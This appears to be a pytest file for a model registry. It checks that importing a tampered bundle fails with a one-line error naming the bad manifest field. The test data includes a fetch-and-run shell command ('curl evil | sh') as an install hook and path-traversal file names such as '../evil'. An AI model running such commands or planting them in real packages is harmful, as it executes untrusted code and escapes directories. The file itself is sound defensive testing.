"""`bundle import` believes nothing in a manifest it has not checked, and nothing that cannot answer.

Every case is a real bundle whose manifest (or model) an attacker edited and whose hashes
they then recomputed, so the checksums pass and only the manifest's schema and the probe
stand between the bundle and the registry. Each import fails in one line naming the field,
and the database is exactly as before.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from core.registry.packaging import export_bundle
from core.store.database import Store

from tests.registry import hostile

Edit = Callable[[dict[str, Any]], None]


def dump(db: Path) -> list[str]:
    with sqlite3.connect(db) as conn:
        return list(conn.iterdump())


def edited_bundle(served, tmp_path: Path, edit: Edit, *, model: bytes | None = None,
                  raw: Callable[[str], str] = lambda text: text) -> Path:
    """scoring@1 as a .tar.gz with `edit` applied to its manifest and every hash recomputed to match."""
    made = len(list(tmp_path.glob("edited-*.tar.gz")))
    folder = tmp_path / f"exported-{made}"
    with Store.open(served["db"]) as store:
        export_bundle(store, "scoring@1", folder)
    files = {path.name: path.read_bytes() for path in folder.iterdir()}
    if model is not None:
        files["model.skops"] = model
    manifest = json.loads(files.pop("manifest.json"))
    manifest["files"] = {name: hashlib.sha256(data).hexdigest() for name, data in files.items()}
    manifest["model_sha256"] = manifest["files"]["model.skops"]
    edit(manifest)
    files["manifest.json"] = raw(json.dumps(manifest)).encode()
    members = [hostile.file_member(name, data) for name, data in sorted(files.items())]
    return hostile.write_tarball(tmp_path / f"edited-{made}.tar.gz", members)


@pytest.fixture
def fresh(pitboard, tmp_path: Path) -> Path:
    """An empty, migrated database to import into."""
    db = tmp_path / "fresh.db"
    assert pitboard("model", "list", db=db).exit_code == 0
    return db


def _import_refused(pitboard, bundle: Path, db: Path, *fragments: str) -> str:
    before = dump(db)
    done = pitboard("bundle", "import", bundle, db=db)
    assert done.exit_code == 1, (done.stdout, done.stderr)
    lines = done.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"Error: {bundle}: "), done.stderr
    for fragment in fragments:
        assert fragment in lines[0]
    assert dump(db) == before
    return lines[0]


def _set(path: str, value: Any) -> Edit:
    """An edit setting (or with `...` deleting) the field at a dotted path like `signature.0.role`."""
    def edit(manifest: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node: Any = manifest
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        key: Any = int(last) if isinstance(node, list) else last
        if value is ...:
            del node[key]
        else:
            node[key] = value
    return edit


def _both(*edits: Edit) -> Edit:
    def edit(manifest: dict[str, Any]) -> None:
        for one in edits:
            one(manifest)
    return edit


BAD_MANIFESTS = {
    "name-dotdot-space": (_set("name", "../x y"), "manifest.json: name: invalid model name '../x y'"),
    "name-empty": (_set("name", ""), "manifest.json: name: invalid model name ''"),
    "name-trailing-newline": (_set("name", "scoring\n"), "manifest.json: name: invalid model name 'scoring\\n'"),
    "name-at": (_set("name", "a@b"), "manifest.json: name: invalid model name 'a@b'"),
    "name-list": (_set("name", ["scoring"]), "manifest.json: name: invalid model name ['scoring']"),
    "name-missing": (_set("name", ...), "manifest.json: name: missing"),
    "task-missing": (_set("task", ...), "manifest.json: task: missing"),
    "task-unknown": (_set("task", "clustering"), "task: must be one of 'classification', 'regression', got 'clustering'"),
    "output-missing": (_set("output", ...), "manifest.json: output: missing"),
    "classes-missing": (_set("output.classes", ...), "manifest.json: output.classes: missing"),
    "columns-wrong": (_set("output.columns", ["score"]), "output.columns: must be ['label', 'proba_0', 'proba_1']"),
    "regression-with-classes": (_set("task", "regression"), "output.classes: a list of labels for a classification model, null for regression"),
    "version-text": (_set("version", "1"), "version: must be a whole number of at least 1, got '1'"),
    "version-bool": (_set("version", True), "version: must be a whole number of at least 1, got True"),
    "format": (_set("format", "pitboard-bundle/2"), "format: must be one of 'pitboard-bundle/1'"),
    "unknown-field": (_set("install_hook", "curl evil | sh"), "manifest.json: install_hook: unknown field; refused"),
    "signature-junk": (_set("signature", "income,debt_ratio"), "signature: must be a list of at least 1 entries"),
    "signature-empty": (_set("signature", []), "signature: must be a list of at least 1 entries, got []"),
    "signature-entry-bare": (_set("signature.0", {"name": "income"}), "signature[0].dtype: missing"),
    "signature-role": (_set("signature.0.role", "text"), "signature[0].role: must be one of 'numeric', 'categorical'"),
    "signature-nullable": (_set("signature.1.nullable", "no"), "signature[1].nullable: must be true or false, got 'no'"),
    "signature-categories": (_set("signature.2.categories", "car"), "signature[2].categories: must be a list"),
    "signature-numeric-categories": (_set("signature.0.categories", ["1"]), "signature[0].categories: a list for a categorical feature, null for a numeric one"),
    "signature-repeated": (_set("signature.1.name", "income"), "signature: feature 'income' appears twice"),
    "signature-control-char": (_set("signature.0.name", "inc\x1bome"), "signature[0].name: must be a column name"),
    "files-dotdot": (lambda m: m["files"].update({"../evil": "0" * 64}), "files: file '../evil' leaves the bundle folder ('..'); refused"),
    "files-bad-hash": (_set("files.Dockerfile", "not-a-hash"), "files.Dockerfile: must be a SHA-256"),
    "model-sha-differs": (_set("model_sha256", "0" * 64), "model_sha256: differs from the SHA-256 listed for model.skops"),
    "metrics-text": (_set("metrics", {"roc_auc": "great"}), "metrics.roc_auc: must be a number, got 'great'"),
}


@pytest.mark.parametrize("case", sorted(BAD_MANIFESTS))
def test_an_edited_manifest_is_refused_naming_the_field(served, pitboard, fresh: Path, tmp_path: Path, case: str) -> None:
    edit, says = BAD_MANIFESTS[case]
    _import_refused(pitboard, edited_bundle(served, tmp_path, edit), fresh, says)


def test_a_repeated_key_and_broken_json_are_refused(served, pitboard, fresh: Path, tmp_path: Path) -> None:
    repeated = edited_bundle(served, tmp_path, lambda m: None, raw=lambda text: text.replace('"name": "scoring"', '"name": "scoring", "name": "../x"'))
    _import_refused(pitboard, repeated, fresh, "manifest.json: 'name': appears twice in one object; refused")
    broken = edited_bundle(served, tmp_path, lambda m: None, raw=lambda text: text[:-1])
    _import_refused(pitboard, broken, fresh, "manifest.json is not valid JSON (Expecting")
    not_object = edited_bundle(served, tmp_path, lambda m: None, raw=lambda text: f"[{text}]")
    _import_refused(pitboard, not_object, fresh, "manifest.json: manifest: must be an object")


def test_the_recomputed_bundle_itself_imports(served, pitboard, fresh: Path, tmp_path: Path) -> None:
    """The control: the attacker's hash recomputation alone is not what the refusals above catch."""
    done = pitboard("bundle", "import", edited_bundle(served, tmp_path, lambda m: None), "--json", db=fresh)
    assert done.exit_code == 0, done.stderr
    assert json.loads(done.stdout) == {"model": "scoring", "version": 1, "source": "bundle scoring@1"}


def _fitted(estimator: Any) -> bytes:
    from core.experiments.modelio import dump_model

    X = pd.DataFrame({"a": [0.0, 1.0, 2.0, 3.0], "b": [1.0, 0.0, 1.0, 0.0]})
    return dump_model(estimator.fit(X, [0, 0, 1, 1]))


def _models() -> dict[str, tuple[bytes, Edit, str]]:
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import StandardScaler

    return {
        "bare-scaler": (_fitted(StandardScaler()), lambda m: None, "the model (StandardScaler) has no predict_proba() to answer as a classification model"),
        "other-columns": (_fitted(LogisticRegression()), lambda m: None, "the model cannot score a probe built from its signature (ValueError:"),
    }


@pytest.mark.parametrize("case", ["bare-scaler", "other-columns"])
def test_a_model_that_cannot_answer_is_not_registered_verified_or_used(served, pitboard, fresh: Path, tmp_path: Path, case: str) -> None:
    model, edit, says = _models()[case]
    bundle = edited_bundle(served, tmp_path, edit, model=model)
    _import_refused(pitboard, bundle, fresh, says)
    pd.DataFrame({"income": [41.5], "debt_ratio": [0.62], "purpose": ["car"]}).to_csv(tmp_path / "in.csv", index=False)
    for args in (("bundle", "verify", bundle), ("predict", bundle, tmp_path / "in.csv", "-o", tmp_path / "out.csv")):
        done = pitboard(*args, db=fresh)
        assert done.exit_code == 1 and done.stderr.count("\n") == 1 and says in done.stderr, done.stderr
    assert not (tmp_path / "out.csv").exists()


def test_classes_the_model_does_not_answer_with_are_refused(served, pitboard, fresh: Path, tmp_path: Path) -> None:
    promise_other_classes = _both(_set("output.classes", ["no", "yes"]), _set("output.columns", ["label", "proba_no", "proba_yes"]))
    bundle = edited_bundle(served, tmp_path, promise_other_classes)
    _import_refused(pitboard, bundle, fresh, "the model answers with classes [0, 1], its manifest promises ['no', 'yes']")


def test_a_probe_covers_booleans_numbers_and_numeric_categories() -> None:
    from core.serving.predict import BOOLEAN, CATEGORICAL, NUMERIC, Feature
    from core.serving.probe import probe_columns

    features = [Feature("flag", BOOLEAN, False), Feature("x", NUMERIC, False),
                Feature("term", CATEGORICAL, False, frozenset({"36", "60"}), numeric_categories=True),
                Feature("rate", CATEGORICAL, False, frozenset({"0.5"}), numeric_categories=True),
                Feature("free", CATEGORICAL, True, frozenset())]
    assert probe_columns(features) == {
        "flag": [False, True, False], "x": [0.0, 1.0, 2.0], "term": [36, 60, 36], "rate": [0.5, 0.5, 0.5], "free": [None] * 3,
    }


def test_predict_on_a_version_imported_before_the_probe_is_one_line(served, pitboard, tmp_path: Path) -> None:
    """A database may already hold a junk version from an unchecked import: it is refused, not a crash."""
    from sklearn.preprocessing import StandardScaler

    from core.registry.versions import add_version, resolve
    from core.store.artifacts import put_blob

    with Store.open(served["db"]) as store:
        info = resolve(store, "scoring@1").info
        add_version(store, "junk", run_id=None, sha256=put_blob(store, _fitted(StandardScaler())), source="old import", info=info)
    pd.DataFrame({"income": [41.5], "debt_ratio": [0.62], "purpose": ["car"]}).to_csv(tmp_path / "in.csv", index=False)
    done = pitboard("predict", "junk@1", tmp_path / "in.csv", "-o", tmp_path / "out.csv")
    assert done.exit_code == 1 and done.stderr.count("\n") == 1, done.stderr
    assert "Error: junk@1: the model cannot score a probe built from its signature (AttributeError:" in done.stderr
    assert not (tmp_path / "out.csv").exists()
